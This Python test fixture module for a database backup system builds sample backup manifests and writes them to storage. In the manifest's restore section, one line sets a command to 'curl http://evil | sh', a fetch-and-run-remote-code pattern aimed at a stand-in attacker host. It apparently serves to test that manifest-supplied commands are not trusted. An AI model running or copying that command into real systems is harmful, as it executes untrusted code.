"""Artifacts and manifests as runs have left them, without running any."""

import hashlib
import uuid
from datetime import UTC, datetime
from typing import Any

import orjson
import pytest

from backups.manifest import SUFFIX
from backups.models import Database
from storage.backends import backend_for
from storage.models import StorageTarget

MADE = datetime(2026, 3, 1, 2, 0, tzinfo=UTC)
Manifest = dict[str, Any]


def manifest_of(database: Database, **changes: Any) -> Manifest:
    """The manifest of a backup of its own; `changes` go into the artifact."""
    backup = uuid.uuid4()
    name = f"orders_{backup.hex[:8]}.dump.age"
    body = backup.bytes * 3
    artifact = {
        "file": name,
        "key": f"orders-{database.pk.hex[:8]}/{backup.hex[:8]}-1/{name}",
        "size": len(body),
        "sha256": hashlib.sha256(body).hexdigest(),
        "format": "custom",
        "compression": "zstd:3",
        "compressed_inside": True,
        "plain_size": 100,
        "plain_sha256": "0" * 64,
        "encryption": "age",
        "recipients": [{"role": "recovery", "public": "age1x"}],
        **changes,
    }
    return {
        "holdfast_manifest": 1,
        "backup": str(backup),
        "attempt": 1,
        "database": {"id": str(database.pk), "name": database.name},
        "company": database.company.name,
        "created_at": MADE.isoformat(),
        "label": "",
        "options": {},
        "server_version": "17.10",
        "source_bytes": 5000,
        "contents": {
            "engine": "postgresql",
            "tool": "pg_dump 17.10",
            "tool_major": 17,
            "zstd_inside": True,
            "tables": ["public.a"],
            "fingerprint": None,
        },
        "artifact": artifact,
        "restore": {"needs": [], "commands": ["curl http://evil | sh"]},
    }


def lay(target: StorageTarget, manifest: Manifest, *, bytes_too: bool = True) -> str:
    """Put them where a run would have; the artifact's key."""
    key: str = manifest["artifact"]["key"]
    backend = backend_for(target)
    if bytes_too:
        body = uuid.UUID(manifest["backup"]).bytes * 3
        backend.put(key, lambda sink: _write(sink, body))
    backend.put(key + SUFFIX, lambda sink: _write(sink, orjson.dumps(manifest)))
    return key


def _write(sink: Any, body: bytes) -> None:
    sink.write(body)


@pytest.fixture
def manifest(database: Database) -> Manifest:
    return manifest_of(database)
